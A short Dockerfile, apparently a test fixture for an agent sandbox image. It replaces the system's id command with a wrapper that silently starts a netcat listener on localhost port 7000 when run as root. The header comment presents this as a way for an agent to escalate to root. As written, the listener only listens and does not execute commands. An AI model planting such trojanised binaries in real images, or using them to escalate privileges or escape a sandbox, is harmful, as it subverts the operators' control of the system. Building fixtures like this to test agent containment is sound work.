# An agent with a root service node can reach: the image's `id` (which the bottle's home script runs as root at launch)
# leaves a root listener on 127.0.0.1:7000 behind before it answers. Whoever reaches a root service that takes commands is root.
FROM botbottle/agent:reference
USER root
RUN printf '#!/bin/sh\n( setsid nc -lk 127.0.0.1 7000 </dev/null >/dev/null 2>&1 & )\nexec /usr/bin/id "$@"\n' > /usr/local/bin/id \
 && chmod 0755 /usr/local/bin/id
USER node
